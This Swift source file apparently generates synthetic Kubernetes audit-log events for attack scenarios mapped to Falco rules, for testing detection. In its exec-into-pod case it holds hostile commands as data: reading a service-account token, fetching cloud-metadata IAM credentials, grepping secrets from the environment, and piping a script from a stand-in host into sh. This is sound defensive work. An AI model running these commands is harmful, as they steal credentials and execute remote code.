// Suspicious and malicious activity that the generator can inject into background traffic.
//
// Every request of a scenario gets a recognisable auditID:
//
//     a77ac4e0-00SS-4000-8000-OOOOOOOOIIII
//
// where `SS` is the scenario's raw value in hex, `OOOOOOOO` the occurrence number (hex) and `IIII`
// the request's index within the occurrence (hex). All stages of one request share it.
// Background traffic never uses the `a77ac4e0-` prefix.
//
// The actors:
// - `carol@example.com` (SRE, `edit` rights) and `alice@example.com` (platform admin,
//   `cluster-admin`) with stolen credentials, used from 198.51.100.23 (outside the VPN);
// - a stolen token of `system:serviceaccount:web:frontend`, used from 203.0.113.45;
// - the over-privileged `system:serviceaccount:monitoring:grafana`, from inside the cluster;
// - `system:anonymous` from 203.0.113.77 through a misconfigured binding;
// - the CI deployer, careless rather than malicious (credentials in a ConfigMap).

/// A kind of suspicious activity, injected by `AuditLogGenerator` or rendered on its own with
/// `events(seed:occurrence:at:)`.
public enum AttackScenario: Int, CaseIterable, Sendable {
    /// `kubectl exec` into a pod with `sh -c <command>`: verb `create` on `pods/exec`, stages
    /// RequestReceived, ResponseStarted (code 101) and ResponseComplete; the command is in the
    /// URI's `command` parameters (URL-encoded, `&` written `\u0026`). By carol from outside.
    case execIntoPod = 1
    /// `kubectl attach` to a running container (`pods/attach`, streaming stages). By carol.
    case attachToPod
    /// `kubectl port-forward` to a pod (`pods/portforward`, streaming stages). By carol.
    case portForward
    /// A pod with `securityContext.privileged: true` created directly (not by a controller).
    case privilegedPod
    /// A pod mounting the host's `/` (even occurrences) or `/etc` (odd ones) through `hostPath`.
    case sensitiveHostPathMount
    /// A pod with `hostNetwork: true`.
    case hostNetworkPod
    /// A pod with `hostPID: true`.
    case hostPIDPod
    /// A pod with `hostIPC: true`.
    case hostIPCPod
    /// A `NodePort` service exposing port 22 of a debug pod on node port 31337.
    case nodePortService
    /// A ClusterRoleBinding of `cluster-admin` to the `web:frontend` service account, by alice.
    case clusterAdminBinding
    /// A ClusterRole with `*` verbs, resources and API groups, by alice.
    case wildcardClusterRole
    /// `system:anonymous` allowed to list configmaps in `kube-system` (not a health endpoint).
    case anonymousRequestAllowed
    /// 25 requests in about 15 s, all answered 403 with `authorization.k8s.io/decision: forbid`,
    /// from one external IP with the stolen `web:frontend` token.
    case forbiddenBurst
    /// One identity (`monitoring:grafana`) lists all secrets, then reads 20 different ones.
    case secretHarvest
    /// A ConfigMap whose data holds an AWS access key id and secret (AWS's documented example
    /// key, so no scanner mistakes it for a real one), created by CI.
    case awsKeyInConfigMap
    /// `kubectl debug`: a patch of `pods/ephemeralcontainers` adding a busybox container.
    case ephemeralContainer
    /// A pod created in `kube-system` by a person (alice), not by a system component.
    case kubeSystemPod
    /// A MutatingWebhookConfiguration pointing at an external URL, created by alice.
    case mutatingWebhook

    /// A short stable name, e.g. `exec-into-pod`.
    public var name: String {
        switch self {
        case .execIntoPod: return "exec-into-pod"
        case .attachToPod: return "attach-to-pod"
        case .portForward: return "port-forward"
        case .privilegedPod: return "privileged-pod"
        case .sensitiveHostPathMount: return "sensitive-hostpath-mount"
        case .hostNetworkPod: return "host-network-pod"
        case .hostPIDPod: return "host-pid-pod"
        case .hostIPCPod: return "host-ipc-pod"
        case .nodePortService: return "nodeport-service"
        case .clusterAdminBinding: return "cluster-admin-binding"
        case .wildcardClusterRole: return "wildcard-clusterrole"
        case .anonymousRequestAllowed: return "anonymous-request-allowed"
        case .forbiddenBurst: return "forbidden-burst"
        case .secretHarvest: return "secret-harvest"
        case .awsKeyInConfigMap: return "aws-key-in-configmap"
        case .ephemeralContainer: return "ephemeral-container"
        case .kubeSystemPod: return "kube-system-pod"
        case .mutatingWebhook: return "mutating-webhook"
        }
    }

    /// The rule of Falco's `k8s_audit_rules.yaml` that fires on this scenario, if one does.
    public var falcoRule: String? {
        switch self {
        case .execIntoPod, .attachToPod: return "Attach/Exec Pod"
        case .portForward: return "port-forward"
        case .privilegedPod: return "Create Privileged Pod"
        case .sensitiveHostPathMount: return "Create Sensitive Mount Pod"
        case .hostNetworkPod: return "Create HostNetwork Pod"
        case .hostPIDPod: return "Create HostPid Pod"
        case .hostIPCPod: return "Create HostIPC Pod"
        case .nodePortService: return "Create NodePort Service"
        case .clusterAdminBinding: return "Attach to cluster-admin Role"
        case .wildcardClusterRole: return "ClusterRole With Wildcard Created"
        case .anonymousRequestAllowed: return "Anonymous Request Allowed"
        case .forbiddenBurst, .secretHarvest, .mutatingWebhook: return nil
        case .awsKeyInConfigMap: return "Create/Modify Configmap With Private Credentials"
        case .ephemeralContainer: return "EphemeralContainers Created"
        case .kubeSystemPod: return "Pod Created in Kube Namespace"
        }
    }

    /// Every attack auditID starts with this.
    public static let auditIDPrefix = "a77ac4e0-"

    /// The scenario an auditID belongs to, or nil for background traffic.
    public static func scenario(forAuditID id: some StringProtocol) -> AttackScenario? {
        let u = Array(id.utf8)
        guard u.count == 36, u.starts(with: Array(auditIDPrefix.utf8)) else { return nil }
        var v = 0
        for c in u[9..<13] {
            guard let d = hexValue(c) else { return nil }
            v = v * 16 + d
        }
        return AttackScenario(rawValue: v)
    }

    /// The events of one occurrence of this scenario, in log order, each one JSON document
    /// without a trailing newline. `at` is the first request's time (epoch seconds).
    /// The same arguments always give the same bytes.
    public func events(seed: UInt64 = 1, occurrence: Int = 0, at epochSeconds: Int64 = 1_795_428_000) -> [[UInt8]] {
        let model = ClusterModel(seed: seed)
        var rng = SplitMix64(seed: seed ^ (UInt64(self.rawValue) << 32) ^ UInt64(occurrence))
        let start = epochSeconds * 1_000_000
        return self.build(model: model, occurrence: occurrence, at: start, start: start, rng: &rng)
            .map { Array($0.line.dropLast()) }
    }
}

private func hexValue(_ c: UInt8) -> Int? {
    switch c {
    case UInt8(ascii: "0")...UInt8(ascii: "9"): return Int(c - UInt8(ascii: "0"))
    case UInt8(ascii: "a")...UInt8(ascii: "f"): return Int(c - UInt8(ascii: "a") + 10)
    default: return nil
    }
}

// MARK: - Rendering

/// One request of an attack scenario. Strings are JSON text (already escaped).
struct AttackRequest {
    var level: Level = .metadata
    var verb: String
    var uri: String
    var actor: Actor
    var objectRef: String?
    /// `responseStatus` once complete.
    var status: String = #"{"metadata":{},"code":200}"#
    var requestObject: String?
    var responseObject: String?
    var forbidden = false
    /// Extra annotations, JSON members sorted after `authorization.k8s.io/*`, with a leading comma.
    var extraAnnotations = ""
    /// Long-running (exec, attach, port-forward): ResponseStarted, then ResponseComplete later.
    var streaming = false
    /// Microseconds between receipt and completion.
    var latency: Int64 = 20_000
}

/// Who performs an attack request.
struct Actor {
    var user: String
    var ip: String
    var agent: String
    var reason: String
    /// The policy logs `RequestReceived` for people and CI, not for system components.
    var logsRequestReceived: Bool
    var name: String
}

extension Actor {
    static let kubectl = "kubectl/\(k8sVersion) (linux/amd64) kubernetes/\(k8sGitCommit)"
    static let carol = Actor(
        user: #"{"username":"carol@example.com","groups":["sre","system:authenticated"]}"#,
        ip: "198.51.100.23", agent: kubectl,
        reason: #"RBAC: allowed by ClusterRoleBinding \"sre-edit\" of ClusterRole \"edit\" to Group \"sre\""#,
        logsRequestReceived: true, name: "carol@example.com")
    static let alice = Actor(
        user: #"{"username":"alice@example.com","groups":["platform-admins","system:authenticated"]}"#,
        ip: "198.51.100.23", agent: kubectl,
        reason: #"RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to Group \"platform-admins\""#,
        logsRequestReceived: true, name: "alice@example.com")
    static let frontend = Actor(
        user: #"{"username":"system:serviceaccount:web:frontend","uid":"5b0c3f4e-93a1-4c6e-9d55-0f6d2b7a8e11","groups":["system:serviceaccounts","system:serviceaccounts:web","system:authenticated"],"extra":{"authentication.kubernetes.io/credential-id":["JTI=0b9e4f6a-7c21-4d8e-a3f5-6e2d1c0b9a87"]}}"#,
        ip: "203.0.113.45", agent: kubectl, reason: "", logsRequestReceived: false,
        name: "system:serviceaccount:web:frontend")
    static let grafana = Actor(
        user: #"{"username":"system:serviceaccount:monitoring:grafana","uid":"c1d2e3f4-a5b6-4c7d-8e9f-0a1b2c3d4e5f","groups":["system:serviceaccounts","system:serviceaccounts:monitoring","system:authenticated"],"extra":{"authentication.kubernetes.io/credential-id":["JTI=7f3e2d1c-0b9a-4876-9543-21fedcba9876"],"authentication.kubernetes.io/pod-name":["grafana-6c9d8b7f5d-x2vqk"]}}"#,
        ip: "10.244.7.31", agent: "OpenAPI-Generator/31.0.0/python",
        reason: #"RBAC: allowed by ClusterRoleBinding \"grafana-secret-reader\" of ClusterRole \"secret-reader\" to ServiceAccount \"grafana/monitoring\""#,
        logsRequestReceived: false, name: "system:serviceaccount:monitoring:grafana")
    static let anonymous = Actor(
        user: #"{"username":"system:anonymous","groups":["system:unauthenticated"]}"#,
        ip: "203.0.113.77", agent: "curl/8.5.0",
        reason: #"RBAC: allowed by ClusterRoleBinding \"anonymous-view\" of ClusterRole \"view\" to User \"system:anonymous\""#,
        logsRequestReceived: false, name: "system:anonymous")
}

/// One rendered event line of an attack, with the time it belongs at in the log.
struct TimedLine {
    var due: Int64
    var line: [UInt8]
}

extension AttackScenario {
    static func auditID(_ scenario: AttackScenario, occurrence: Int, index: Int) -> UUID128 {
        UUID128(hi: 0xa77a_c4e0_0000_4000 | UInt64(scenario.rawValue & 0xFFFF) << 16,
                lo: 0x8000_0000_0000_0000 | UInt64(UInt32(truncatingIfNeeded: occurrence)) << 16 | UInt64(index & 0xFFFF))
    }

    /// Renders every stage of every request of one occurrence, sorted by time.
    func build(model m: ClusterModel, occurrence: Int, at t0: Int64, start: Int64,
               rng r: inout SplitMix64) -> [TimedLine] {
        let requests = self.requests(model: m, occurrence: occurrence, at: t0, start: start, rng: &r)
        var out: [TimedLine] = []
        let storage = ByteStorage(capacity: 8192)
        for (index, (received, q)) in requests.enumerated() {
            let id = Self.auditID(self, occurrence: occurrence, index: index)
            var stages: [(Stage, Int64)] = []
            if q.actor.logsRequestReceived { stages.append((.requestReceived, received)) }
            if q.streaming { stages.append((.responseStarted, received + 40_000 + Int64(r.below(200_000)))) }
            stages.append((.responseComplete, received + q.latency))
            for (stage, at) in stages {
                var w = ByteWriter(storage)
                w.attackEvent(q, id: id, stage: stage, received: received, at: at)
                out.append(TimedLine(due: at, line: Array(UnsafeBufferPointer(start: w.base, count: w.count))))
            }
        }
        out.sort { $0.due < $1.due }
        return out
    }

    /// The requests of one occurrence with their receive times.
    private func requests(model m: ClusterModel, occurrence n: Int, at t0: Int64, start: Int64,
                          rng r: inout SplitMix64) -> [(Int64, AttackRequest)] {
        func pick<T>(_ xs: [T]) -> T { xs[r.below(xs.count)] }
        func str(_ t: Text) -> String { String(decoding: UnsafeBufferPointer(start: t.start, count: t.count), as: UTF8.self) }
        let suffix = ClusterModel.randomSuffix(&r, 5)
        switch self {
        case .execIntoPod, .attachToPod, .portForward, .ephemeralContainer:
            let dep = m.deployments[r.below(m.deployments.count)]
            let ns = str(m.namespaces[dep.namespace].name)
            let pod = str(m.pods[dep.pods[r.below(dep.pods.count)]].name)
            let container = str(dep.name)
            let base = "/api/v1/namespaces/\(ns)/pods/\(pod)"
            var q = AttackRequest(verb: "create", uri: "", actor: .carol, streaming: true,
                                  latency: Int64(r.range(4, 180)) * 1_000_000)
            q.status = #"{"metadata":{},"code":101}"#
            switch self {
            case .execIntoPod:
                let commands = [
                    "cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
                    "curl+-s+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
                    "env+%7C+grep+-i+-E+%27key%7Csecret%7Ctoken%27",
                    "wget+-qO-+http%3A%2F%2F203.0.113.9%2Fx.sh+%7C+sh",
                ]
                q.uri = "\(base)/exec?command=sh\\u0026command=-c\\u0026command=\(commands[n % commands.count])"
                    + "\\u0026container=\(container)\\u0026stderr=true\\u0026stdout=true"
                q.objectRef = #"{"resource":"pods","namespace":"\#(ns)","name":"\#(pod)","apiVersion":"v1","subresource":"exec"}"#
            case .attachToPod:
                q.uri = "\(base)/attach?container=\(container)\\u0026stdin=true\\u0026stdout=true\\u0026tty=true"
                q.objectRef = #"{"resource":"pods","namespace":"\#(ns)","name":"\#(pod)","apiVersion":"v1","subresource":"attach"}"#
            case .portForward:
                q.uri = "\(base)/portforward"
                q.objectRef = #"{"resource":"pods","namespace":"\#(ns)","name":"\#(pod)","apiVersion":"v1","subresource":"portforward"}"#
            default:
                q.verb = "patch"
                q.streaming = false
                q.latency = Int64(r.range(20, 90)) * 1_000
                q.level = .request
                q.status = #"{"metadata":{},"code":200}"#
                q.uri = "\(base)/ephemeralcontainers"
                q.objectRef = #"{"resource":"pods","namespace":"\#(ns)","name":"\#(pod)","apiVersion":"v1","subresource":"ephemeralcontainers"}"#
                q.requestObject = #"{"spec":{"ephemeralContainers":[{"name":"debugger-\#(suffix)","image":"docker.io/library/busybox:1.36","command":["sh"],"resources":{},"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","stdin":true,"tty":true,"targetContainerName":"\#(container)"}]}}"#
            }
            return [(t0, q)]

        case .privilegedPod, .sensitiveHostPathMount, .hostNetworkPod, .hostPIDPod, .hostIPCPod, .kubeSystemPod:
            var spec = PodShape(name: "", namespace: pick(["web", "shop", "default"]), image: "", command: ["sleep", "infinity"])
            var actor = Actor.carol
            switch self {
            case .privilegedPod:
                spec.name = "debug-tools-\(suffix)"
                spec.image = "docker.io/library/ubuntu:22.04"
                spec.privileged = true
            case .sensitiveHostPathMount:
                spec.name = "node-inspect-\(suffix)"
                spec.image = "docker.io/library/alpine:3.20"
                spec.hostPath = n % 2 == 0 ? "/" : "/etc"
            case .hostNetworkPod:
                spec.name = "net-debug-\(suffix)"
                spec.image = "docker.io/nicolaka/netshoot:v0.13"
                spec.hostNetwork = true
            case .hostPIDPod:
                spec.name = "proc-viewer-\(suffix)"
                spec.image = "docker.io/library/alpine:3.20"
                spec.hostPID = true
            case .hostIPCPod:
                spec.name = "ipc-check-\(suffix)"
                spec.image = "docker.io/library/alpine:3.20"
                spec.hostIPC = true
            default:
                spec.name = "kube-proxy-cache-\(suffix)"
                spec.namespace = "kube-system"
                spec.image = "docker.io/library/busybox:1.36"
                spec.command = ["sh", "-c", "while true; do sleep 3600; done"]
                actor = .alice
            }
            let uid = UUID128.random(&r)
            let received = t0
            var q = AttackRequest(level: .requestResponse, verb: "create",
                                  uri: "/api/v1/namespaces/\(spec.namespace)/pods?fieldManager=kubectl-run",
                                  actor: actor, latency: Int64(r.range(15, 60)) * 1_000)
            q.objectRef = #"{"resource":"pods","namespace":"\#(spec.namespace)","name":"\#(spec.name)","apiVersion":"v1"}"#
            q.status = #"{"metadata":{},"code":201}"#
            q.requestObject = spec.json(stored: nil)
            q.responseObject = spec.json(stored: (uuidText(uid), 48_213_000 + Int((received - start) / 1_500) + r.below(500), received))
            q.extraAnnotations = #","pod-security.kubernetes.io/enforce-policy":"privileged:latest""#
            return [(received, q)]

        case .nodePortService:
            let ns = pick(["web", "shop"])
            let name = "debug-shell-\(suffix)"
            var q = AttackRequest(level: .requestResponse, verb: "create",
                                  uri: "/api/v1/namespaces/\(ns)/services?fieldManager=kubectl-expose",
                                  actor: .carol, latency: 25_000)
            q.objectRef = #"{"resource":"services","namespace":"\#(ns)","name":"\#(name)","apiVersion":"v1"}"#
            q.status = #"{"metadata":{},"code":201}"#
            let spec = #""spec":{"ports":[{"protocol":"TCP","port":22,"targetPort":22,"nodePort":31337}],"selector":{"run":"\#(name)"},"type":"NodePort"}"#
            q.requestObject = #"{"kind":"Service","apiVersion":"v1","metadata":{"name":"\#(name)","namespace":"\#(ns)","creationTimestamp":null,"labels":{"run":"\#(name)"}},\#(spec),"status":{"loadBalancer":{}}}"#
            q.responseObject = #"{"kind":"Service","apiVersion":"v1","metadata":{"name":"\#(name)","namespace":"\#(ns)","uid":"\#(uuidText(.random(&r)))","resourceVersion":"\#(48_213_000 + Int((t0 - start) / 1_500))","creationTimestamp":"\#(secondsText(t0))","labels":{"run":"\#(name)"}},"spec":{"ports":[{"protocol":"TCP","port":22,"targetPort":22,"nodePort":31337}],"selector":{"run":"\#(name)"},"clusterIP":"172.20.9.\#(r.range(2, 250))","type":"NodePort","sessionAffinity":"None","externalTrafficPolicy":"Cluster"},"status":{"loadBalancer":{}}}"#
            return [(t0, q)]

        case .clusterAdminBinding:
            let name = "ops-break-glass-\(suffix)"
            var q = AttackRequest(level: .requestResponse, verb: "create",
                                  uri: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create\\u0026fieldValidation=Strict",
                                  actor: .alice, latency: 12_000)
            q.objectRef = #"{"resource":"clusterrolebindings","name":"\#(name)","apiGroup":"rbac.authorization.k8s.io","apiVersion":"v1"}"#
            q.status = #"{"metadata":{},"code":201}"#
            let body = #""subjects":[{"kind":"ServiceAccount","name":"frontend","namespace":"web"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}"#
            q.requestObject = #"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"\#(name)","creationTimestamp":null},\#(body)}"#
            q.responseObject = #"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"\#(name)","uid":"\#(uuidText(.random(&r)))","resourceVersion":"\#(48_213_000 + Int((t0 - start) / 1_500))","creationTimestamp":"\#(secondsText(t0))"},\#(body)}"#
            return [(t0, q)]

        case .wildcardClusterRole:
            let name = "ops-superuser-\(suffix)"
            var q = AttackRequest(level: .requestResponse, verb: "create",
                                  uri: "/apis/rbac.authorization.k8s.io/v1/clusterroles?fieldManager=kubectl-create\\u0026fieldValidation=Strict",
                                  actor: .alice, latency: 11_000)
            q.objectRef = #"{"resource":"clusterroles","name":"\#(name)","apiGroup":"rbac.authorization.k8s.io","apiVersion":"v1"}"#
            q.status = #"{"metadata":{},"code":201}"#
            let rules = #""rules":[{"verbs":["*"],"apiGroups":["*"],"resources":["*"]},{"verbs":["*"],"nonResourceURLs":["*"]}]"#
            q.requestObject = #"{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"\#(name)","creationTimestamp":null},\#(rules)}"#
            q.responseObject = #"{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"\#(name)","uid":"\#(uuidText(.random(&r)))","resourceVersion":"\#(48_213_000 + Int((t0 - start) / 1_500))","creationTimestamp":"\#(secondsText(t0))"},\#(rules)}"#
            return [(t0, q)]

        case .anonymousRequestAllowed:
            let targets = [("kube-system", "configmaps"), ("default", "pods"), ("kube-system", "serviceaccounts")]
            let (ns, resource) = targets[n % targets.count]
            var q = AttackRequest(verb: "list", uri: "/api/v1/namespaces/\(ns)/\(resource)?limit=500",
                                  actor: .anonymous, latency: 9_000)
            q.objectRef = #"{"resource":"\#(resource)","namespace":"\#(ns)","apiVersion":"v1"}"#
            return [(t0, q)]

        case .forbiddenBurst:
            let probes: [(String, String, String, String?, String)] = [
                ("list", "/api/v1/secrets?limit=500", "secrets", nil, ""),
                ("list", "/api/v1/nodes?limit=500", "nodes", nil, ""),
                ("list", "/api/v1/namespaces?limit=500", "namespaces", nil, ""),
                ("list", "/apis/rbac.authorization.k8s.io/v1/clusterroles?limit=500", "clusterroles", nil, "rbac.authorization.k8s.io"),
                ("list", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500", "clusterrolebindings", nil, "rbac.authorization.k8s.io"),
                ("list", "/api/v1/namespaces/kube-system/secrets?limit=500", "secrets", "kube-system", ""),
                ("list", "/api/v1/namespaces/kube-system/configmaps?limit=500", "configmaps", "kube-system", ""),
                ("create", "/api/v1/namespaces/kube-system/pods", "pods", "kube-system", ""),
                ("list", "/apis/apps/v1/daemonsets?limit=500", "daemonsets", nil, "apps"),
                ("create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "clusterrolebindings", nil, "rbac.authorization.k8s.io"),
                ("list", "/api/v1/persistentvolumes?limit=500", "persistentvolumes", nil, ""),
                ("get", "/api/v1/namespaces/kube-system/secrets/bootstrap-token-abcdef", "secrets", "kube-system", ""),
                ("list", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?limit=500", "mutatingwebhookconfigurations", nil, "admissionregistration.k8s.io"),
            ]
            var out: [(Int64, AttackRequest)] = []
            var t = t0
            for i in 0..<25 {
                let (verb, uri, resource, ns, group) = probes[(i + n) % probes.count]
                var q = AttackRequest(verb: verb, uri: uri, actor: .frontend, latency: Int64(r.range(800, 4_000)))
                let nsPart = ns.map { #","namespace":"\#($0)""# } ?? ""
                let groupPart = group.isEmpty ? "" : #","apiGroup":"\#(group)""#
                q.objectRef = #"{"resource":"\#(resource)"\#(nsPart)\#(groupPart),"apiVersion":"v1"}"#
                let scope = ns.map { #"in the namespace \"\#($0)\""# } ?? "at the cluster scope"
                let verbWord = verb == "create" ? "create" : verb
                q.status = #"{"metadata":{},"status":"Failure","message":"\#(resource)\#(group.isEmpty ? "" : "." + group) is forbidden: User \"\#(Actor.frontend.name)\" cannot \#(verbWord) resource \"\#(resource)\" in API group \"\#(group)\" \#(scope)","reason":"Forbidden","details":{"kind":"\#(resource)"\#(group.isEmpty ? "" : #","group":"\#(group)""#)},"code":403}"#
                q.forbidden = true
                out.append((t, q))
                t += Int64(r.range(150_000, 1_100_000))
            }
            return out

        case .secretHarvest:
            var out: [(Int64, AttackRequest)] = []
            var t = t0
            var list = AttackRequest(verb: "list", uri: "/api/v1/secrets?limit=500", actor: .grafana, latency: 45_000)
            list.objectRef = #"{"resource":"secrets","apiVersion":"v1"}"#
            out.append((t, list))
            var targets: [(String, String)] = []
            for ns in m.namespaces { for s in ns.secrets { targets.append((str(ns.name), str(s))) } }
            let offset = r.below(targets.count)
            for i in 0..<20 {
                t += Int64(r.range(300_000, 2_000_000))
                let (ns, name) = targets[(offset + i * 5) % targets.count]
                var q = AttackRequest(verb: "get", uri: "/api/v1/namespaces/\(ns)/secrets/\(name)", actor: .grafana,
                                      latency: Int64(r.range(900, 5_000)))
                q.objectRef = #"{"resource":"secrets","namespace":"\#(ns)","name":"\#(name)","apiVersion":"v1"}"#
                out.append((t, q))
            }
            return out

        case .awsKeyInConfigMap:
            let ns = pick(["data", "payments"])
            let name = "backup-settings"
            let ci = Actor(
                user: Self.ciUser(model: m), ip: "10.0.200.17", agent: Actor.kubectl,
                reason: #"RBAC: allowed by RoleBinding \"deployer-edit/ci\" of ClusterRole \"edit\" to ServiceAccount \"deployer/ci\""#,
                logsRequestReceived: true, name: "system:serviceaccount:ci:deployer")
            var q = AttackRequest(level: .request, verb: "create",
                                  uri: "/api/v1/namespaces/\(ns)/configmaps?fieldManager=kubectl-client-side-apply\\u0026fieldValidation=Strict",
                                  actor: ci, latency: 14_000)
            q.objectRef = #"{"resource":"configmaps","namespace":"\#(ns)","name":"\#(name)","apiVersion":"v1"}"#
            q.status = #"{"metadata":{},"code":201}"#
            q.requestObject = #"{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"\#(name)","namespace":"\#(ns)","creationTimestamp":null,"labels":{"app.kubernetes.io/name":"db-backup"}},"data":{"BACKUP_SCHEDULE":"0 3 * * *","S3_BUCKET":"acme-\#(ns)-backups","aws_access_key_id":"AKIAIOSFODNN7EXAMPLE","aws_secret_access_key":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}}"#
            return [(t0, q)]

        case .mutatingWebhook:
            let name = "pod-defaults-injector-\(suffix)"
            var q = AttackRequest(level: .requestResponse, verb: "create",
                                  uri: "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?fieldManager=kubectl-client-side-apply\\u0026fieldValidation=Strict",
                                  actor: .alice, latency: 16_000)
            q.objectRef = #"{"resource":"mutatingwebhookconfigurations","name":"\#(name)","apiGroup":"admissionregistration.k8s.io","apiVersion":"v1"}"#
            q.status = #"{"metadata":{},"code":201}"#
            let hooks = #""webhooks":[{"name":"inject.pod-defaults.example.net","clientConfig":{"url":"https://203.0.113.9:8443/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"],"scope":"*"}],"failurePolicy":"Ignore","sideEffects":"None","timeoutSeconds":5,"admissionReviewVersions":["v1"],"reinvocationPolicy":"Never"}]"#
            q.requestObject = #"{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"\#(name)","creationTimestamp":null},\#(hooks)}"#
            q.responseObject = #"{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"\#(name)","uid":"\#(uuidText(.random(&r)))","resourceVersion":"\#(48_213_000 + Int((t0 - start) / 1_500))","generation":1,"creationTimestamp":"\#(secondsText(t0))"},\#(hooks)}"#
            return [(t0, q)]
        }
    }

    static func ciUser(model m: ClusterModel) -> String {
        let block = String(decoding: UnsafeBufferPointer(start: m.ciDeployer.block.start, count: m.ciDeployer.block.count),
                           as: UTF8.self)
        // `"user":{…},"sourceIPs":…` -> `{…}`
        guard let open = block.firstIndex(of: "{"), let end = block.firstRange(of: "},\"sourceIPs\"") else { return "{}" }
        return String(block[open..<end.lowerBound]) + "}"
    }
}

/// The shape of a pod an attacker creates with `kubectl run`.
struct PodShape {
    var name: String
    var namespace: String
    var image: String
    var command: [String]
    var privileged = false
    var hostPath: String?
    var hostNetwork = false
    var hostPID = false
    var hostIPC = false

    /// The Pod as kubectl sends it (`stored == nil`) or as stored (uid, resourceVersion, created).
    func json(stored: (String, Int, Int64)?) -> String {
        var meta = #""name":"\#(self.name)","namespace":"\#(self.namespace)""#
        if let (uid, rv, created) = stored {
            meta += #","uid":"\#(uid)","resourceVersion":"\#(rv)","creationTimestamp":"\#(secondsText(created))""#
        } else {
            meta += #","creationTimestamp":null"#
        }
        meta += #","labels":{"run":"\#(self.name)"}"#
        let command = self.command.map { "\"\($0)\"" }.joined(separator: ",")
        var mounts = ""
        var volumes = ""
        if let hostPath {
            mounts = #","volumeMounts":[{"name":"host","mountPath":"/host"}]"#
            volumes = #""volumes":[{"name":"host","hostPath":{"path":"\#(hostPath)","type":""}}],"#
        }
        let security = self.privileged ? #","securityContext":{"privileged":true}"# : ""
        var spec = #"{\#(volumes)"containers":[{"name":"\#(self.name)","image":"\#(self.image)","command":[\#(command)],"resources":{}\#(mounts),"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent"\#(security)}],"restartPolicy":"Always","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst""#
        if self.hostNetwork { spec += #","hostNetwork":true"# }
        if self.hostPID { spec += #","hostPID":true"# }
        if self.hostIPC { spec += #","hostIPC":true"# }
        spec += #","securityContext":{},"schedulerName":"default-scheduler"}"#
        let status = stored == nil ? "{}" : #"{"phase":"Pending","qosClass":"BestEffort"}"#
        return #"{"kind":"Pod","apiVersion":"v1","metadata":{\#(meta)},"spec":\#(spec),"status":\#(status)}"#
    }
}

func uuidText(_ id: UUID128) -> String {
    let storage = ByteStorage(capacity: 64)
    var w = ByteWriter(storage)
    w.uuid(id)
    return String(decoding: UnsafeBufferPointer(start: w.base, count: w.count), as: UTF8.self)
}

func secondsText(_ micros: Int64) -> String {
    let storage = ByteStorage(capacity: 64)
    var w = ByteWriter(storage)
    w.timestampSeconds(micros)
    return String(decoding: UnsafeBufferPointer(start: w.base, count: w.count), as: UTF8.self)
}

extension ByteWriter {
    mutating func put(_ s: String) {
        var s = s
        s.withUTF8 { self.put(UnsafeRawBufferPointer($0)) }
    }

    /// One stage of an attack request, as a full line.
    mutating func attackEvent(_ q: AttackRequest, id: UUID128, stage: Stage, received: Int64, at: Int64) {
        self.head(q.level, id, stage)
        self.put(q.uri)
        self.put("\",\"verb\":\"")
        self.put(q.verb)
        self.put("\",\"user\":")
        self.put(q.actor.user)
        self.put(",\"sourceIPs\":[\"")
        self.put(q.actor.ip)
        self.put("\"],\"userAgent\":\"")
        self.put(q.actor.agent)
        self.byte(UInt8(ascii: "\""))
        if let o = q.objectRef {
            self.put(",\"objectRef\":")
            self.put(o)
        }
        if stage == .requestReceived {
            self.times(received, at)
            self.end()
            return
        }
        self.put(",\"responseStatus\":")
        self.put(q.status)
        if let body = q.requestObject, q.level != .metadata {
            self.put(",\"requestObject\":")
            self.put(body)
        }
        if stage == .responseComplete, let body = q.responseObject, q.level == .requestResponse {
            self.put(",\"responseObject\":")
            self.put(body)
        }
        self.times(received, at)
        if q.forbidden {
            self.put(",\"annotations\":{\"authorization.k8s.io/decision\":\"forbid\",\"authorization.k8s.io/reason\":\"")
            self.put(#"RBAC: no rule of any Role or ClusterRole bound to User \"\#(q.actor.name)\" allows this request"#)
            self.put("\"}}\n")
        } else {
            self.put(",\"annotations\":{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"")
            self.put(q.actor.reason)
            self.put("\"")
            self.put(q.extraAnnotations)
            self.put("}}\n")
        }
    }
}
